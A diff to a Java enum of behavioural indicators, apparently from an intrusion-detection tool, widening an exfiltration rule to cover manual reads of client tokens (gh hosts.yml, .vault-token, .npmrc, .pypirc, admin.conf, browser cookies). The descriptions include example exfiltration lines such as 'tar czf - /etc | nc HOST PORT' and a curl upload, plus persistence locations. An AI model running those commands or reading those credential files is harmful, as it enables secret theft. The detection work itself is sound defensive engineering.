@@ -167,7 +167,9 @@ enum Feature {
             + "curl, ...), read a Kubernetes service account's token or a Kerberos keytab or ticket cache; or, holding an inet "
             + "connection, read its stdin from a pipe a family member that read such a file writes into (tar czf - /etc | nc "
             + "HOST PORT), or read a file such a member wrote (tar czf x.tgz /etc; curl -F f=@x.tgz URL; secrecy follows "
-            + "pipes: tar's gzip); not ssh, rsync, aws, rclone, restic, borg"),
+            + "pipes: tar's gzip); not ssh, rsync, aws, rclone, restic, borg; or, by hand (cat, cp, a shell), a token its "
+            + "client holds (gh's hosts.yml, .vault-token, .npmrc, .pypirc, Azure's and Terraform's tokens, /etc/ssl/private, "
+            + "admin.conf) or a browser's cookies"),
     IND_PERSISTENCE("ind.persistence", 3, "modified a cron file, systemd unit, init script, xdg autostart entry, shell rc "
             + "file (not a home one in a directory made during the trace), authorized_keys, ~/.ssh/rc, ld.so.preload or a kernel "
             + "setting naming a program the kernel runs as root (core_pattern, modprobe, uevent_helper, a cgroup's "
